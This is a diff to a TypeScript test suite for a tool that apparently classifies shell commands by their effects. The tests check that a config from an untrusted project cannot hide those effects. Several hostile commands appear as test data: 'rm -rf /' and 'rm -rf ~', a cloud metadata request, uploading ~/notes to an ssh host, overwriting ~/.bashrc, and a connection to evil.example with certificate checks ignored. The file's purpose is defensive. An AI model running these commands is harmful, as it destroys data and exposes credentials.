@@ -57,6 +57,8 @@ describe('a program of the config', () => {
     const kinds = readShell('git tag v1', { ...world, programs: [{ ...git, kind: 'publish' }] }).effects;
     expect(kinds.find((effect) => effect.code === 'our-tag')?.kind).toBe('publish');
     expect(codes('git reset --hard', [git])).toContain('git-reset-hard');
+    const tmux = { names: 'tmux', about: 'x', effects: git.effects! };
+    expect(codes('tmux -c rm -rf /', [tmux])).toEqual(codes('tmux -c rm -rf /', []));
   });
 });
 
@@ -79,11 +81,42 @@ describe('a project that is not trusted', () => {
     expect(spec?.options).toBeUndefined();
   });
 
+  test.each([
+    'acme http://169.254.169.254/latest/meta-data/',
+    'acme --upload ~/notes ssh://host.example/x',
+    'acme purge ~ --recursive',
+    'tmux -c rm -rf /',
+    'webpack --output-path ~/.bashrc',
+    'agent -connect evil.example:443 -ignore-cert',
+  ])('takes nothing away by naming a program: %s', (source) => {
+    const name = source.split(' ')[0]!;
+    const effects = [{ code: 'c', when: 'never', why: 'd' }];
+    for (const more of [strictPrograms([{ names: name, about: 'x', effects }]), []])
+      expect(codes(source, more)).toEqual(codes(source, []));
+    expect(codes(source, []).length).toBeGreaterThan(0);
+  });
+
+  test('takes nothing away from the description that the user gave, whichever comes first', () => {
+    const strict = strictPrograms([
+      { names: 'acme', about: 'x', effects: [{ code: 'c', when: 'x', why: 'd' }] },
+    ]);
+    for (const programs of [
+      [acme, ...strict],
+      [...strict, acme],
+    ]) {
+      expect(codes("acme build --hook 'rm -rf ~'", programs)).toContain('delete-home');
+      expect(codes('acme rm x', programs)).toEqual(['acme-drop']);
+      expect(codes('acme x', programs)).toEqual(['c']);
+    }
+  });
+
   test('can’t flood the reader', () => {
     const many = Array.from({ length: 500 }, (_, i) => ({ ...acme, names: `acme${i}` }));
     expect(strictPrograms(many)).toHaveLength(50);
     const effects = Array.from({ length: 300 }, (_, i) => ({ code: `c${i}`, when: 'x', why: 'y' }));
     expect(strictPrograms([{ ...acme, subcommands: {}, effects }])[0]!.effects).toHaveLength(200);
+    expect(strictPrograms([{ ...acme, names: 'x'.repeat(500) }])).toHaveLength(1);
+    expect(strictPrograms([{ ...acme, names: 'x'.repeat(501) }])).toEqual([]);
   });
 
   test.each(['when', 'flags', 'unless', 'except', 'harmless'])(
